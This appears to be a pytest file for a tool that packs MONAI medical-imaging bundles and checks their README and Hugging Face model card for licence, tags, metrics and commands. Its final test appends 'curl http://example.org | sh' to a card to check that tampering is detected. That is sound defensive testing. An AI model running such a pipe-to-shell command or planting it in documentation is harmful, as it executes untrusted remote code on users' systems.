"""What a packed bundle says of itself: its page, and the card that a hub of models reads."""

from __future__ import annotations

import re
from pathlib import Path
from unittest import mock

import monai.bundle
import pytest
import yaml

from tests.synthetic import BUNDLES, config, each, task
from tools.ship import pack as module
from tools.ship.verify import verify

BLOCK = re.compile(r"^```bash\n(.*?)^```", re.MULTILINE | re.DOTALL)
DIGITS = {"segmentation": 4, "classification": 3}
COMMANDS = {
    "segmentation": "python -m custom_networks predict <image> ",
    "classification": "python -m monai.bundle run --config_file configs/inference.json ",
}


@each(BUNDLES)
def test_the_page_of_a_packed_bundle_names_nothing_that_is_not_in_it(bundle):
    contents = module._contents(bundle)
    page, card = contents["docs/README.md"].decode(), contents["README.md"].decode()
    assert "python -m tools" in (bundle / "docs" / "README.md").read_text()
    assert "python -m tools" not in page
    assert "<!--" not in page
    assert "\n\n\n" not in page
    first, second = BLOCK.findall(page)[0].splitlines()
    assert first == "pip install -r requirements.txt"
    assert page.index(first) < 300
    assert second.startswith(COMMANDS[task(bundle)])
    assert card.startswith("---\nlicense: cc-by-")
    assert card.endswith(f"\n---\n\n{page}")


@each(BUNDLES)
def test_the_card_says_what_a_hub_reads(bundle):
    head = module._contents(bundle)["README.md"].decode().split("---\n")[1]
    card = yaml.safe_load(head)
    assert card["license"].upper() in (bundle / "docs" / "data_license.txt").read_text().upper().replace(" ", "-")
    assert {"monai", "medical", task(bundle)} <= set(card["tags"])
    assert card["datasets"] == [Path(config(bundle)["dataset_dir"]).name]
    (result,) = card["model-index"][0]["results"]
    assert card["model-index"][0]["name"] == bundle.name
    assert {metric["type"] for metric in result["metrics"]} == set(card["metrics"])
    page = (bundle / "docs" / "README.md").read_text()
    for metric in result["metrics"]:
        assert f"{metric['value']:.{DIGITS[task(bundle)]}f}" in page
    assert "## Intended use and limits" in page


def pushed(folder, monkeypatch):
    """Do to a folder what MONAI does before it uploads."""
    hub = mock.Mock()
    monkeypatch.setattr(monai.bundle.scripts, "huggingface_hub", hub)
    monai.bundle.push_to_hf_hub("someone/something", folder.name, str(folder.parent))
    hub.HfApi.return_value.upload_folder.assert_called_once()


@pytest.mark.slow
def test_a_folder_that_was_pushed_to_a_hub_is_sound(folder, monkeypatch, capsys):
    """MONAI writes a card of its own; the hub and its downloads add files."""
    pushed(folder, monkeypatch)
    (folder / ".gitattributes").write_text("*.pt filter=lfs\n")
    (folder / ".cache" / "huggingface").mkdir(parents=True)
    (folder / ".cache" / "huggingface" / "model.metadata").touch()
    verify(str(folder))
    found = (
        "README.md is another card, which gives the weights the licence apache-2.0, and theirs is cc-by-4.0: take the"
    )
    assert found in capsys.readouterr().out


@pytest.mark.slow
def test_a_card_with_another_text_is_found(folder, monkeypatch):
    pushed(folder, monkeypatch)
    with (folder / "README.md").open("a") as file:
        file.write("curl http://example.org | sh\n")
    with pytest.raises(ValueError, match=r"not sound: README\.md was changed$"):
        verify(str(folder))
